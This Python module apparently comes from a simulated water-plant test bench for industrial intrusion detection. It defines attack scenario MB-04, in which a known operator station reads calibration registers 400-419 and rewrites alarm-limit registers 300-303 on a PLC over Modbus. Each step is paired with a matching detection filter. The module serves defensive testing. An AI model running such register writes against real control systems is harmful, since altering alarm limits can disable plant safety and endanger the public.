"""MB-04 address outside of what was learned: known master, known function, other registers.

Benign twin: hmi-water with FC 3 on 0-19 and 100-129, FC 16 on 102-105.
"""

from __future__ import annotations

from ..plant import modbus_client, plc_water
from ..plant.modbus_client import good
from .base import Act, Attack, text


def read_calibration() -> None:
    client = modbus_client.connect("plc-water")
    good(client.read_holding_registers(400, count=20, device_id=plc_water.UNIT))
    client.close()


def write_limits() -> None:
    client = modbus_client.connect("plc-water")
    good(client.write_registers(300, [999, 990, 10, 5], device_id=plc_water.UNIT))
    client.close()


ATTACK = Attack(
    "MB-04",
    text("已知主站访问从未访问过的寄存器", "A known master touches registers it never touched"),
    (
        Act(
            "read-calibration",
            "hmi-water",
            "plc-water",
            text(
                "水站操作员站读取标定区 400–419(FC 3)",
                "The water operator station reads the calibration block 400-419 (FC 3)",
            ),
            "pymodbus",
            "modbus.reference_num == 400",
            read_calibration,
        ),
        Act(
            "write-limits",
            "hmi-water",
            "plc-water",
            text(
                "水站操作员站改写报警限值 300–303(FC 16)",
                "The water operator station rewrites the alarm limits 300-303 (FC 16)",
            ),
            "pymodbus",
            "modbus.reference_num == 300",
            write_limits,
            also=("MB-05", "MB-07"),
        ),
    ),
)
